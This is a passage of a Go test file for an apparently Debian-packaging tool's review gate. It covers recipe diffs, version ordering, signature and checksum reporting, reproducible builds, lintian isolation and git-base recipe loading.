package gate

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/updeb/updeb/internal/fetch"
	"github.com/updeb/updeb/internal/pipeline"
	"github.com/updeb/updeb/internal/recipe"
	"github.com/updeb/updeb/internal/testkit/testenv"
	"github.com/updeb/updeb/internal/trust"
	"github.com/updeb/updeb/pkg/digest"
	"github.com/updeb/updeb/pkg/verify/openpgp"
)

const fpr = "BF6DE05C1AE1CEB285DE5044F3CB238093D0BB4B"

// helloRecipe is a recipe with a signed source and a checksum file, the shape
// the gate compares most often (a bump of version or revision).
const helloRecipe = `name: hello
version: 1.2.0
revision: "1"
release-date: 2026-03-14
license: Apache-2.0
copyright: The hello authors
maintainer: Hello Packager <hello@example.org>
architectures: {amd64: amd64}
sources:
  - name: hello
    url: https://example.org/v{{.Version}}/hello-{{.Arch}}.tar.gz
    sha256: {amd64: 019250d9e08f5242159d5dcea64c8c7cf77924cd8c69460ae7af5d4ad51d032e}
    signature: {url: "https://example.org/v{{.Version}}/hello-{{.Arch}}.tar.gz.asc", keyring: keys/upstream.asc, signers: [` + fpr + `]}
    checksums: {url: "https://example.org/v{{.Version}}/SHA256SUMS"}
packages:
  - name: hello
    summary: friendly greeting
    description: Says hello.
    section: utils
    files:
      - {source: hello, path: hello, dest: /usr/bin/hello}
      - {source: hello, path: LICENSE, dest: /usr/share/doc/hello/LICENSE}
`

// loadProject writes a project (recipes/hello.yaml and its keyring) into a
// folder of its own and loads the recipe, as the gate sees HEAD and the base.
func loadProject(t *testing.T, text, keyring string) *recipe.Recipe {
	t.Helper()
	return loadFiles(t, map[string]string{"recipes/hello.yaml": text, "keys/upstream.asc": keyring})
}

// loadFiles writes a project of these files and loads recipes/hello.yaml.
func loadFiles(t *testing.T, files map[string]string) *recipe.Recipe {
	t.Helper()
	dir := t.TempDir()
	testenv.WriteFiles(t, dir, files)
	r, err := recipe.Load(filepath.Join(dir, "recipes", "hello.yaml"), recipe.LoadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// edit applies old -> new replacements to text, failing when one is absent.
func edit(t testing.TB, text string, pairs ...string) string {
	t.Helper()
	for i := 0; i < len(pairs); i += 2 {
		if !strings.Contains(text, pairs[i]) {
			t.Fatalf("recipe has no %q", pairs[i])
		}
		text = strings.Replace(text, pairs[i], pairs[i+1], 1)
	}
	return text
}

// TestDiffRecipes compares a recipe at HEAD with its base version, from their
// resolved recipes alone: what the packages gain and lose, control fields,
// architectures, and whether the package bytes change at all. Trust
// settings never change the packages (diffTrust reviews them). A recipe in
// another folder with the same content is unchanged (paths compare relative
// to their roots).
func TestDiffRecipes(t *testing.T) {
	const key = "-----BEGIN PGP PUBLIC KEY BLOCK-----\nold\n-----END PGP PUBLIC KEY BLOCK-----\n"
	const openpgpSig = `signature: {url: "https://example.org/v{{.Version}}/hello-{{.Arch}}.tar.gz.asc", keyring: keys/upstream.asc, signers: [` + fpr + `]}`
	const sha512 = "sha512: {amd64: " + "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e}"
	tests := []struct {
		name       string
		head       string // the recipe at HEAD
		headKey    string // its keyring
		changed    bool   // what the package bytes depend on differs
		newV, oldV string
		changes    []string // exactly these
	}{
		{"same recipe elsewhere", helloRecipe, key, false, "1.2.0-1", "1.2.0-1", nil},
		{"revision only", edit(t, helloRecipe, `revision: "1"`, `revision: "2"`), key, true, "1.2.0-2", "1.2.0-1", nil},
		{"control field", edit(t, helloRecipe, `revision: "1"`, `revision: "2"`, "section: utils", "section: net"), key, true, "1.2.0-2", "1.2.0-1",
			[]string{`hello [amd64]: Section: "utils" -> "net"`}},
		{"summary is the Description's first line", edit(t, helloRecipe, "summary: friendly greeting", "summary: greeting"), key, true, "1.2.0-1", "1.2.0-1",
			[]string{"hello [amd64]: Description:\n  - friendly greeting\n  + greeting\n    Says hello."}},
		{"relation", edit(t, helloRecipe, "section: utils", "section: utils\n    depends: [ca-certificates]"), key, true, "1.2.0-1", "1.2.0-1",
			[]string{`hello [amd64]: Depends: "" -> "ca-certificates"`}},
		{"file moved", edit(t, helloRecipe, "dest: /usr/bin/hello}", "dest: /usr/sbin/hello}"), key, true, "1.2.0-1", "1.2.0-1",
			[]string{"hello [amd64]: + /usr/sbin/hello (0755)", "hello [amd64]: - /usr/bin/hello (0755)"}},
		{"mode", edit(t, helloRecipe, "dest: /usr/share/doc/hello/LICENSE}", `dest: /usr/share/doc/hello/LICENSE, mode: "0600"}`), key, true, "1.2.0-1", "1.2.0-1",
			[]string{"hello [amd64]: + /usr/share/doc/hello/LICENSE (0600)", "hello [amd64]: - /usr/share/doc/hello/LICENSE (0644)"}},
		{"package added", edit(t, helloRecipe, "packages:\n", "packages:\n  - {name: hello-doc, architecture: all, summary: docs, description: Docs., section: doc, files: [{source: hello, path: README, dest: /usr/share/doc/hello-doc/README}]}\n"), key, true, "1.2.0-1", "1.2.0-1",
			[]string{"hello-doc [amd64]: new package"}},
		{"architecture added", edit(t, helloRecipe, "{amd64: amd64}", "{amd64: amd64, arm64: arm64}", "{amd64: 0192", "{arm64: 7f4b9b5c6bc993bd427c4ba7fd1aea86dab4083b51cb8c84ab533926ddb71665, amd64: 0192"), key, true, "1.2.0-1", "1.2.0-1",
			[]string{"architecture arm64 added"}},
		{"other pinned bytes", edit(t, helloRecipe, "{amd64: 0192", "{amd64: 1192"), key, true, "1.2.0-1", "1.2.0-1", nil},
		// Trust-only edits: the same package bytes.
		{"keyring content", helloRecipe, key + "rotated\n", false, "1.2.0-1", "1.2.0-1", nil},
		{"signer list", edit(t, helloRecipe, "signers: ["+fpr+"]", "signers: ["+fpr+", 0123456789ABCDEF0123456789ABCDEF01234567]"), key, false, "1.2.0-1", "1.2.0-1", nil},
		{"signature dropped", edit(t, helloRecipe, openpgpSig, `signature: {none: upstream does not sign}`), key, false, "1.2.0-1", "1.2.0-1", nil},
		{"Sigstore replaces the keyring", edit(t, helloRecipe, openpgpSig,
			`signature: {bundle-url: "https://example.org/v{{.Version}}/hello-{{.Arch}}.sigstore.json", identity: rel@example.org, issuer: https://accounts.google.com}`), key, false, "1.2.0-1", "1.2.0-1", nil},
		{"cross-check dropped", edit(t, helloRecipe, "    checksums: {url: \"https://example.org/v{{.Version}}/SHA256SUMS\"}\n", ""), key, false, "1.2.0-1", "1.2.0-1", nil},
		{"a pin of another algorithm added", edit(t, helloRecipe, "    signature:", "    "+sha512+"\n    signature:"), key, false, "1.2.0-1", "1.2.0-1", nil},
		{"another URL, the same pins", edit(t, helloRecipe, "url: https://example.org/v{{.Version}}/hello-{{.Arch}}.tar.gz", "url: https://mirror.example.org/v{{.Version}}/hello-{{.Arch}}.tar.gz"), key, false, "1.2.0-1", "1.2.0-1",
			[]string{"source hello [amd64]: downloaded from https://mirror.example.org/v1.2.0/hello-amd64.tar.gz, was https://example.org/v1.2.0/hello-amd64.tar.gz (the same pinned bytes)"}},
	}
	old := loadProject(t, helloRecipe, key)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			head := loadProject(t, tt.head, tt.headKey)
			d, err := diffRecipes(head, old, recipe.ResolveOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if d.changed != tt.changed || d.newVersion != tt.newV || d.oldVersion != tt.oldV {
				t.Errorf("changed %v, versions %s over %s; want %v, %s over %s", d.changed, d.newVersion, d.oldVersion, tt.changed, tt.newV, tt.oldV)
			}
			want := slices.Clone(tt.changes)
			slices.Sort(want)
			if !slices.Equal(d.changes, want) {
				t.Errorf("changes:\n  %s\nwant:\n  %s", strings.Join(d.changes, "\n  "), strings.Join(want, "\n  "))
			}
		})
	}
}

// TestDiffRecipesInstalledKeyring: a keyring that a package also installs
// (a -keyring package shipping the key its source is verified with) goes
// into the package's bytes: a key added to it changes the packages, and
// the version must increase, though as a keyring it is only a REVIEW line.
func TestDiffRecipesInstalledKeyring(t *testing.T) {
	installed := edit(t, helloRecipe, "keyring: keys/upstream.asc", "keyring: recipes/hello/upstream.asc",
		"    files:\n", "    files:\n      - {file: upstream.asc, dest: /usr/share/keyrings/hello.asc}\n")
	project := func(key string) *recipe.Recipe {
		return loadFiles(t, map[string]string{"recipes/hello.yaml": installed, "recipes/hello/upstream.asc": key})
	}
	old := project("key\n")
	if d, err := diffRecipes(project("key\n"), old, recipe.ResolveOptions{}); err != nil || d.changed {
		t.Errorf("the same keyring: changed %v (%v)", d.changed, err)
	}
	if d, err := diffRecipes(project("key\nanother key\n"), old, recipe.ResolveOptions{}); err != nil || !d.changed {
		t.Errorf("a key added to the installed keyring: changed %v (%v), want the packages changed", d.changed, err)
	}
}

// A change every architecture shares is shown once, naming them all.
func TestDiffRecipesSharedChange(t *testing.T) {
	two := edit(t, helloRecipe, "{amd64: amd64}", "{amd64: amd64, arm64: arm64}", "{amd64: 0192", "{arm64: 7f4b9b5c6bc993bd427c4ba7fd1aea86dab4083b51cb8c84ab533926ddb71665, amd64: 0192")
	d, err := diffRecipes(loadProject(t, edit(t, two, "section: utils", "section: net"), "k"), loadProject(t, two, "k"), recipe.ResolveOptions{})
	if want := []string{`hello [amd64, arm64]: Section: "utils" -> "net"`}; err != nil || !slices.Equal(d.changes, want) {
		t.Errorf("changes %q (%v), want %q", d.changes, err, want)
	}
}

// TestVersionCheck is the rule the gate enforces on a bump: changed packages
// need a Debian version that dpkg orders after the base's.
func TestVersionCheck(t *testing.T) {
	tests := []struct {
		newV, oldV string
		changed    bool
		want       Status
		detail     string
	}{
		{"1.2.0-2", "1.2.0-1", true, Pass, "1.2.0-1 -> 1.2.0-2"},
		{"1.10.0-1", "1.9.0-1", true, Pass, "1.9.0-1 -> 1.10.0-1"},                   // numerically, not as text
		{"1.2.0-1", "1.2.0~rc.1-1", true, Pass, "1.2.0~rc.1-1 -> 1.2.0-1"},           // a release after its candidate
		{"1:1.0.0-1", "2.0.0-1", true, Pass, "2.0.0-1 -> 1:1.0.0-1"},                 // the epoch wins
		{"1.2.0-1~wmf2", "1.2.0-1~wmf1", true, Pass, "1.2.0-1~wmf1 -> 1.2.0-1~wmf2"}, // the local suffix counts
		{"1.2.0-1", "1.2.0-1", true, Fail, "does not increase over 1.2.0-1 at BASE"},
		{"1.2.0~rc.1-1", "1.2.0-1", true, Fail, "1.2.0~rc.1-1 does not increase"},
		{"1.9.0-1", "1.10.0-1", true, Fail, "does not increase"},
		{"1.2.0-1", "1.2.0-1", false, Pass, "the packages are unchanged since BASE (1.2.0-1)"},
		{"1.2.0-1", "", true, Fail, ""}, // no base version to order against
	}
	for _, tt := range tests {
		st, detail := versionCheck(recipeDiff{newVersion: tt.newV, oldVersion: tt.oldV, changed: tt.changed}, "BASE")
		if st != tt.want || !strings.Contains(detail, tt.detail) {
			t.Errorf("%s over %s (changed %v): %s %q, want %s %q", tt.newV, tt.oldV, tt.changed, st, detail, tt.want, tt.detail)
		}
	}
}

// TestSourceChecks names each kind of build failure after the check it
// failed, and says how every source was verified when all built.
func TestSourceChecks(t *testing.T) {
	r := &recipe.Recipe{Sources: []recipe.Source{
		{Name: "signed", Signature: recipe.Signature{URL: "https://example.org/a.asc"}, Checksums: &recipe.Checksums{URL: "https://example.org/SUMS"}},
		{Name: "bare", Signature: recipe.Signature{None: "upstream does not sign"}},
	}}
	netErr := &fetch.NetworkError{URL: "https://example.org/a", Attempts: 2, Err: syscall.ECONNREFUSED}
	failures := []struct {
		err   error
		check string
		cause bool // the failure is a download: Report.Err must see it
	}{
		{&digest.MismatchError{Subject: "a", Algorithm: digest.SHA256, Want: "aa", Got: "bb"}, "digest", false},
		{fmt.Errorf("signature a.asc: %w", &openpgp.RefusedError{}), "signature", false},
		{fmt.Errorf("%w: SUMS lists other", trust.ErrCrossCheck), "cross-check", false},
		{fmt.Errorf("%w: bad", recipe.ErrInvalid), "build", false},
		{fmt.Errorf("%w: bad", openpgp.ErrKeyring), "build", false},
		{netErr, "fetch", true},
		{&fetch.OfflineError{Missing: []string{"https://example.org/a"}}, "fetch", true},
		{errors.New("disk full"), "build", false},
	}
	for _, f := range failures {
		var c checks
		if sourceChecks(r, []pipeline.Result{{}, {Err: fmt.Errorf("hello (amd64): %w", f.err)}}, &c) {
			t.Errorf("%v: reported as built", f.err)
		}
		if len(c) != 1 || c[0].Check != f.check || c[0].Status != Fail || !strings.Contains(c[0].Detail, f.err.Error()) {
			t.Errorf("%v: %+v, want one failed %s check", f.err, c, f.check)
		}
		if len(c) == 1 && (c[0].cause != nil) != f.cause {
			t.Errorf("%v: cause %v", f.err, c[0].cause)
		}
	}

	// Who signed comes from the words trust.Source returned for each
	// architecture: once when they agree, per architecture when not.
	r.Sources = append(r.Sources,
		recipe.Source{Name: "sig", Signature: recipe.Signature{Sigstore: &recipe.Sigstore{BundleURL: "https://example.org/a.sigstore.json"}}},
		recipe.Source{Name: "clear", Signature: recipe.Signature{URL: "https://example.org/c.asc"}, Checksums: &recipe.Checksums{URL: "https://example.org/SUMS.asc", Clearsigned: &recipe.Keyring{}}})
	built := func(arch, file string) pipeline.Result {
		return pipeline.Result{Arch: arch, Outputs: []pipeline.Output{{File: file}}, VerifiedBy: map[string][]string{
			"signed": {"openpgp:" + fpr, "checksum-file:https://example.org/SUMS"},
			"sig":    {"sigstore:rel@example.org issuer=https://accounts.google.com rekor=" + map[string]string{"amd64": "7", "arm64": "8"}[arch]},
			"clear":  {"openpgp:" + map[string]string{"amd64": fpr, "arm64": "0123456789ABCDEF0123456789ABCDEF01234567"}[arch], "openpgp-clearsigned-checksums:" + fpr},
		}}
	}
	var c checks
	ok := sourceChecks(r, []pipeline.Result{built("amd64", "a_1_amd64.deb"), built("arm64", "a_1_arm64.deb")}, &c)
	want := []Result{
		{Check: "digest", Status: Pass, Detail: "every source matches its pinned digest"},
		{Check: "signature", Status: Pass, Detail: "OpenPGP signature verified: signed (key " + fpr + "); clear (amd64: key " + fpr + ", arm64: key 0123456789ABCDEF0123456789ABCDEF01234567)"},
		{Check: "signature", Status: Pass, Detail: "Sigstore signature verified: sig (amd64: rel@example.org issuer=https://accounts.google.com rekor=7, arm64: rel@example.org issuer=https://accounts.google.com rekor=8)"},
		{Check: "signature", Status: Skip, Detail: "no signature: bare (upstream does not sign)"},
		{Check: "cross-check", Status: Pass, Detail: "pins agree with the upstream checksum file: signed; clear (clearsigned by key " + fpr + ")"},
		{Check: "cross-check", Status: Skip, Detail: "no cross-check available (the recipe names no upstream checksum file): bare, sig"},
		{Check: "build", Status: Pass, Detail: "a_1_amd64.deb a_1_arm64.deb"},
	}
	if !ok || !slices.Equal(c, want) {
		t.Errorf("all built:\n%s\nwant\n%s", resultLines(c), resultLines(want))
	}
}

func resultLines(rs []Result) string {
	var b strings.Builder
	for _, r := range rs {
		fmt.Fprintf(&b, "  %s %s %s\n", r.Status, r.Check, r.Detail)
	}
	return b.String()
}

// TestReproducible compares the two builds' packages byte for byte.
func TestReproducible(t *testing.T) {
	dirA, dirB := t.TempDir(), t.TempDir()
	big := bytes.Repeat([]byte("0123456789abcdef"), 10000) // beyond one 64 KiB read
	write := func(dir, name string, data []byte) {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	changedTail := slices.Clone(big)
	changedTail[len(changedTail)-1] = 'X'
	write(dirA, "same.deb", big)
	write(dirB, "same.deb", big)
	write(dirA, "tail.deb", big)
	write(dirB, "tail.deb", changedTail)
	write(dirA, "short.deb", big)
	write(dirB, "short.deb", big[:len(big)-1])
	write(dirA, "only.deb", big)

	outs := func(names ...string) []pipeline.Result {
		var r pipeline.Result
		for _, n := range names {
			r.Outputs = append(r.Outputs, pipeline.Output{File: n, SHA256: n + "-sha"})
		}
		return []pipeline.Result{r}
	}
	tests := []struct {
		a, b   []pipeline.Result
		want   Status
		detail string
	}{
		{outs("same.deb"), outs("same.deb"), Pass, "1 package(s) byte-identical"},
		{outs("same.deb", "tail.deb"), outs("same.deb", "tail.deb"), Fail, "tail.deb: sha256 tail.deb-sha, then tail.deb-sha"},
		{outs("short.deb"), outs("short.deb"), Fail, "short.deb: sha256"},
		{outs("same.deb", "only.deb"), outs("same.deb"), Fail, "only.deb: missing from the second build"},
	}
	for _, tt := range tests {
		var c checks
		reproducible(tt.a, tt.b, dirA, dirB, &c)
		if len(c) != 1 || c[0].Check != "reproducible" || c[0].Status != tt.want || !strings.Contains(c[0].Detail, tt.detail) {
			t.Errorf("%v vs %v: %+v, want %s %q", tt.a, tt.b, c, tt.want, tt.detail)
		}
	}
}

// TestLintianNotInstalled: without lintian the check is skipped, never passed.
func TestLintianNotInstalled(t *testing.T) {
	var c checks
	lintian(context.Background(), "", t.TempDir(), []string{"a.deb"}, "", &c)
	if len(c) != 1 || c[0].Status != Skip {
		t.Errorf("%+v, want one skipped check", c)
	}
}

// TestLintianLeavesNoFiles: lintian 2.116 leaves a file in TMPDIR on every
// run; the gate gives it a folder of its own in the gate's folder and removes
// it, and nothing goes to the process's TMPDIR.
func TestLintianLeavesNoFiles(t *testing.T) {
	exe := testenv.RequireTool(t, "lintian")[0]
	tmp, gateDir := t.TempDir(), t.TempDir()
	t.Setenv("TMPDIR", tmp)
	var c checks
	lintian(context.Background(), exe, gateDir, []string{filepath.Join("..", "..", "testdata", "debian", "base-files_12.4+deb12u15_amd64.deb")}, "", &c)
	if len(c) != 1 || c[0].Status != Pass {
		t.Fatalf("%+v, want one passed check", c)
	}
	for _, dir := range []string{tmp, gateDir} {
		left, err := os.ReadDir(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range left {
			t.Errorf("left in %s: %s", dir, e.Name())
		}
	}
}

// TestLintianGetsNoSecrets: lintian runs on upstream bytes and never
// reaches the network: it is not given the GitHub token nor the proxy
// settings (a proxy's password), whatever their case; the rest of the
// environment is its own.
func TestLintianGetsNoSecrets(t *testing.T) {
	dir := t.TempDir()
	exe, envFile := filepath.Join(dir, "lintian"), filepath.Join(dir, "env")
	if err := os.WriteFile(exe, []byte("#!/bin/sh\nenv > "+envFile+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, kv := range []string{"GITHUB_TOKEN=ghp_s3cret", "HTTPS_PROXY=http://u:s3cret@proxy:3128", "https_proxy=http://u:s3cret@proxy:3128",
		"HTTP_PROXY=http://u:s3cret@proxy:3128", "http_proxy=http://u:s3cret@proxy:3128", "ALL_PROXY=socks5://u:s3cret@proxy:1080", "UPDEB_TEST_KEPT=yes"} {
		name, value, _ := strings.Cut(kv, "=")
		t.Setenv(name, value)
	}
	var c checks
	lintian(context.Background(), exe, dir, []string{"a.deb"}, "", &c)
	env, err := os.ReadFile(envFile)
	if len(c) != 1 || c[0].Status != Pass || err != nil {
		t.Fatalf("%+v %v, want one passed check", c, err)
	}
	for _, line := range strings.Split(string(env), "\n") {
		if strings.Contains(line, "s3cret") {
			t.Errorf("lintian was given %s", line)
		}
	}
	if !strings.Contains(string(env), "\nUPDEB_TEST_KEPT=yes\n") || !strings.Contains(string(env), "\nPATH=") {
		t.Errorf("lintian's environment:\n%s\nwant the rest kept", env)
	}
}

// TestLintianStopsWithItsHelpers: when the gate is stopped, lintian and the
// helpers it runs (which share its output) stop at once, and the check
// returns promptly: here a stand-in lintian whose helper would sleep for
// a minute.
func TestLintianStopsWithItsHelpers(t *testing.T) {
	dir := t.TempDir()
	pidFile, _ := testenv.StandInLintian(t, dir)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan checks, 1)
	ended := make(chan struct{})
	gateDir := t.TempDir()
	go func() {
		var c checks
		lintian(ctx, filepath.Join(dir, "lintian"), gateDir, []string{"a.deb"}, "", &c)
		done <- c
		close(ended)
	}()
	pid := testenv.WaitPID(t, pidFile, 10*time.Second, ended)
	cancel()
	select {
	case c := <-done:
		if len(c) != 1 || c[0].Status == Pass {
			t.Errorf("%+v, want one check that did not pass", c)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("lintian's check still running 5 s after it was stopped")
	}
	testenv.WaitGone(t, pid, 5*time.Second)
}

// TestReportErr: a report fails when any check failed; what the failures
// have in common tells the caller why (the CLI's exit code).
func TestReportErr(t *testing.T) {
	netErr := &fetch.NetworkError{URL: "https://example.org/a", Attempts: 6, Err: syscall.ECONNREFUSED}
	baseErr := fmt.Errorf("%w: HEAD~9 is not a commit", ErrBase)
	report := func(results ...[]Result) *Report {
		rep := &Report{}
		for i, rs := range results {
			rep.add(RecipeReport{Recipe: fmt.Sprintf("r%d", i), Results: rs})
		}
		return rep
	}
	pass := Result{Check: "digest", Status: Pass}
	warn := Result{Check: "trust", Status: Warn}
	base := Result{Check: "base", Status: Fail, cause: baseErr}
	baseRecipe := Result{Check: "base", Status: Fail, cause: fmt.Errorf("%w: %w: recipes/x.yaml:3:1: unknown field", ErrBase, ErrBaseRecipe)}
	fetchFail := Result{Check: "fetch", Status: Fail, cause: netErr}
	digestFail := Result{Check: "digest", Status: Fail}

	tests := []struct {
		name     string
		rep      *Report
		is       error // nil: Err is nil
		network  bool
		failed   int
		warnings int
		message  string
	}{
		{"warnings do not fail", report([]Result{pass, warn}), nil, false, 0, 1, ""},
		{"a failed check", report([]Result{pass, digestFail}, []Result{warn}), ErrFailed, false, 1, 1, "1 check(s) failed: r0: digest"},
		{"only the base", report([]Result{base}, []Result{pass, base}), ErrBase, false, 2, 0, "2 check(s) failed: r0: base, r1: base"},
		{"only downloads", report([]Result{fetchFail}, []Result{fetchFail}), netErr, true, 2, 0, "r0: fetch, r1: fetch"},
		{"a download and a check", report([]Result{fetchFail}, []Result{digestFail}), ErrFailed, true, 2, 0, "r0: fetch, r1: digest"},
		{"the base and a check", report([]Result{base, digestFail}), ErrFailed, false, 2, 0, "r0: base, r0: digest"},
		{"only recipes that do not load at the base", report([]Result{baseRecipe}, []Result{baseRecipe}), ErrBaseRecipe, false, 2, 0, "r0: base, r1: base"},
		{"a recipe that does not load at the base, and an unreadable base", report([]Result{baseRecipe}, []Result{base}), ErrBase, false, 2, 0, "r0: base, r1: base"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.rep.Failed != tt.failed || tt.rep.Warnings != tt.warnings || tt.rep.Network != tt.network {
				t.Errorf("failed %d, warnings %d, network %v; want %d, %d, %v", tt.rep.Failed, tt.rep.Warnings, tt.rep.Network, tt.failed, tt.warnings, tt.network)
			}
			err := tt.rep.Err()
			if tt.is == nil {
				if err != nil {
					t.Errorf("Err() = %v, want nil", err)
				}
				return
			}
			var fe *FailedError
			if !errors.Is(err, tt.is) || !errors.As(err, &fe) || !strings.Contains(err.Error(), tt.message) {
				t.Errorf("Err() = %v, want a *FailedError wrapping %v, saying %q", err, tt.is, tt.message)
			}
			for _, other := range []error{ErrFailed, ErrBase, ErrBaseRecipe} {
				if other != tt.is && errors.Is(err, other) && (other != ErrBase || tt.is != ErrBaseRecipe) {
					t.Errorf("Err() = %v also wraps %v", err, other)
				}
			}
		})
	}
}

// A recipe that does not load as it was at the base (a rule updeb added
// since it was committed) is refused naming its file as the repository has
// it, with its own findings only: not the folder it was copied to, and not
// its keyring, which was left out for want of the recipe.
func TestBaseRecipeDoesNotLoad(t *testing.T) {
	tools := testenv.RequireTool(t, "git")
	dir := t.TempDir()
	write, git := testRepo(t, tools[0], dir)
	write("recipes/hello.yaml", edit(t, helloRecipe, `revision: "1"`, `revision: "1"`+"\ncolour: blue"))
	write("keys/upstream.asc", "key\n")
	git("init", "-q")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	write("recipes/hello.yaml", helloRecipe)
	r, err := recipe.Load(filepath.Join(dir, "recipes", "hello.yaml"), recipe.LoadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	tmp := t.TempDir()
	_, err = (&Base{Git: tools[0], Rev: "HEAD"}).load(context.Background(), r, tmp)
	if msg := fmt.Sprint(err); !errors.Is(err, recipe.ErrInvalid) || !strings.HasPrefix(msg, "recipes/hello.yaml:") || !strings.Contains(msg, `unknown field "colour"`) ||
		strings.Contains(msg, tmp) || strings.Contains(msg, "keyring") {
		t.Errorf("the base recipe with an unknown field: %v", err)
	}
	// One that parses but names a keyring the revision lacks: the finding
	// names the recipe and the keyring as the repository has them.
	write("recipes/hello.yaml", edit(t, helloRecipe, "keys/upstream.asc", "keys/gone.asc"))
	git("add", "-A")
	git("commit", "-q", "-m", "gone")
	write("recipes/hello.yaml", helloRecipe)
	tmp = t.TempDir()
	_, err = (&Base{Git: tools[0], Rev: "HEAD"}).load(context.Background(), r, tmp)
	if msg := fmt.Sprint(err); !errors.Is(err, recipe.ErrInvalid) || !strings.HasPrefix(msg, "recipes/hello.yaml:") || !strings.Contains(msg, "keys/gone.asc") || strings.Contains(msg, tmp) {
		t.Errorf("the base recipe naming a keyring the revision lacks: %v", err)
	}
}

// submoduleRepo makes a git repository holding recipes/hello.yaml (text),
// its keyring keys/upstream.asc and the submodule sub (which may be keys), a
// repository of the one file name, committed, and
// returns its folder, a writer of its working tree, git in the submodule's
// working tree, and the git tool.
func submoduleRepo(t *testing.T, text, sub, name string) (dir string, write func(name, content string), gitSub func(args ...string), tools []string) {
	t.Helper()
	tools = testenv.RequireTool(t, "git")
	origin := t.TempDir()
	writeOrigin, gitOrigin := testRepo(t, tools[0], origin)
	writeOrigin(name, "content\n")
	gitOrigin("init", "-q")
	gitOrigin("add", "-A")
	gitOrigin("commit", "-q", "-m", "files")
	dir = t.TempDir()
	write, git := testRepo(t, tools[0], dir)
	write("recipes/hello.yaml", text)
	if sub != "keys" {
		write("keys/upstream.asc", "key\n")
	}
	git("init", "-q")
	git("-c", "protocol.file.allow=always", "submodule", "add", "-q", origin, sub)
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	_, gitSub = testRepo(t, tools[0], filepath.Join(dir, sub))
	return dir, write, gitSub, tools
}

// TestBaseKeyringInSubmodule: a keyring in a submodule (keys/ a gitlink of
// the base), or a recipe's folder that is one, cannot be read at the base:
// verify --base fails closed, saying so and what to do, not that the
// keyring or file does not exist (which sent the operator to a rule added
// to updeb since the recipe was committed).
func TestBaseKeyringInSubmodule(t *testing.T) {
	withConf := edit(t, helloRecipe, "    files:\n", "    files:\n      - {file: hello.conf, dest: /etc/hello.conf}\n")
	for _, tt := range []struct {
		name, text, sub, file, want string
	}{
		{"keyring", helloRecipe, "keys", "upstream.asc", "keys/upstream.asc at HEAD is inside the submodule keys: "},
		{"recipe folder", withConf, "recipes/hello", "hello.conf", "recipes/hello at HEAD is a submodule: "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir, write, _, tools := submoduleRepo(t, tt.text, tt.sub, tt.file)
			write("recipes/hello.yaml", edit(t, tt.text, `revision: "1"`, `revision: "2"`))
			r, err := recipe.Load(filepath.Join(dir, "recipes", "hello.yaml"), recipe.LoadOptions{})
			if err != nil {
				t.Fatal(err)
			}
			_, err = (&Base{Git: tools[0], Rev: "HEAD"}).load(context.Background(), r, t.TempDir())
			if msg := fmt.Sprint(err); !errors.Is(err, ErrBase) || errors.Is(err, ErrBaseRecipe) ||
				!strings.Contains(msg, tt.want) || !strings.Contains(msg, "keep its keyrings and folder in this repository") {
				t.Errorf("%v", err)
			}
		})
	}
}

// TestChangedSubmoduleIgnored: a keyring submodule moved to another commit
// changes the trust of the recipes that name it, also where the change's
// .gitmodules says ignore = all (which hides the submodule from git diff).
func TestChangedSubmoduleIgnored(t *testing.T) {
	dir, write, gitKeys, tools := submoduleRepo(t, helloRecipe, "keys", "upstream.asc")
	if got := changedNames(t, tools[0], dir, "hello"); got != "" {
		t.Errorf("unchanged: %q", got)
	}
	write("keys/upstream.asc", "key\nanother key\n")
	gitKeys("commit", "-q", "-a", "-m", "a key added")
	write(".gitmodules", "[submodule \"keys\"]\n\tpath = keys\n\turl = ./keys\n\tignore = all\n")
	if got := changedNames(t, tools[0], dir, "hello"); got != "hello" {
		t.Errorf("the keyring submodule at another commit, ignore = all: %q", got)
	}
}

// TestBaseLoad reads a recipe as it was at a git revision: an unknown
// revision or a folder outside git is invalid input (ErrBase), a recipe the
// revision does not have is new, and one it has loads with its keyring as it
// was then.
func TestBaseLoad(t *testing.T) {
	tools := testenv.RequireTool(t, "git")
	dir := t.TempDir()
	write, git := testRepo(t, tools[0], dir)
	write("recipes/hello.yaml", helloRecipe)
	write("keys/upstream.asc", "old key\n")
	// A recipe whose own files are in the folder its files-dir names.
	shared := strings.Replace(helloRecipe, "name: hello\n", "name: shared\nfiles-dir: common\n", 1) +
		"      - {file: shared.conf, dest: /etc/shared.conf}\n"
	write("recipes/shared.yaml", shared)
	write("recipes/common/shared.conf", "old conf\n")
	git("init", "-q")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	write("recipes/hello.yaml", edit(t, helloRecipe, `revision: "1"`, `revision: "2"`))
	write("keys/upstream.asc", "new key\n")
	write("recipes/new.yaml", strings.Replace(helloRecipe, "name: hello", "name: new", 1))

	load := func(file string) *recipe.Recipe {
		r, err := recipe.Load(filepath.Join(dir, "recipes", file), recipe.LoadOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	b := &Base{Git: tools[0], Rev: "HEAD"}
	ctx := context.Background()
	old, err := b.load(ctx, load("hello.yaml"), filepath.Join(t.TempDir(), "base"))
	if err != nil || old == nil {
		t.Fatalf("load at HEAD: %v, %v", old, err)
	}
	if old.Revision != "1" {
		t.Errorf("the base recipe has revision %q, want 1", old.Revision)
	}
	if k, err := os.ReadFile(filepath.Join(old.Root, "keys", "upstream.asc")); err != nil || string(k) != "old key\n" {
		t.Errorf("the base keyring is %q (%v), want the committed one", k, err)
	}
